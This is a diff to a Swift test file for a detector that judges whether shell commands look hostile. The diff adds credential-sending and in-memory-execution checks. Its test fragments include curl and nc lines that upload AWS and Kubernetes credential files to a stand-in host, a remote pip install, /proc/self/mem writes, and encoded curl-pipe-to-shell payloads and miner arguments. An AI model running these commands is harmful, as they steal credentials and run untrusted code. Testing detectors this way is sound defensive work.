@@ -23,6 +23,7 @@ struct CommandSignsTests {
         ("looksEncoded", Payloads.looksEncoded), ("downloadsAndRuns", DownloadAndRun.judge),
         ("looksLikeMiner", MinerShape.judge), ("writesPersistence", PersistenceWrite.judge),
         ("reverseShell", ReverseShell.judge), ("runsFetchedCode", FetchedCode.judge),
+        ("runsFromMemory", MemoryExecution.judge), ("sendsCredentials", CredentialSend.judge),
     ]
 
     private static let pieces: [String] = [
@@ -35,9 +36,11 @@ struct CommandSignsTests {
         "pty.spawn('/bin/sh')", "exec(", "b64decode(", "-o pool.example:3333", "-u", "--algo=randomx", "-a rx/0",
         "--pool", "x.example:4444", "\\x63\\x75\\x72\\x6c", "eval", "$(", ")", "'", "\"", "app",
         "--config=/srv/app.yaml",
+        "curl -T /root/.aws/credentials http://x.example/a", "nc x.example 1 < /root/.kube/config",
+        "dd of=/proc/self/mem seek=1", "dd of=/proc/$$/mem",
         "IyEvYmluL3NoCmN1cmwgLXMgaHR0cDovLzE5OC41MS4xMDAuNy94IHwgc2gKZWNobyBkb25lCg==", "-a",
         "6375726c20687474703a2f2f782e6578616d706c652f617c7368", "printf", "rev", "openssl enc -d", "cp x", "-pool",
-        "git clone https://x.example/r", "cd r", "./run.sh", "pip install", "X=cu;", "Y=rl", "$X$Y", "${X}rl", "b''ash",
+        "git clone https://x.example/r", "cd r", "./run.sh", "pip install https://x.example/p.tgz", "X=cu;", "Y=rl", "$X$Y", "${X}rl", "b''ash",
     ]
 
     @Test("Every function about commands is put to the test")
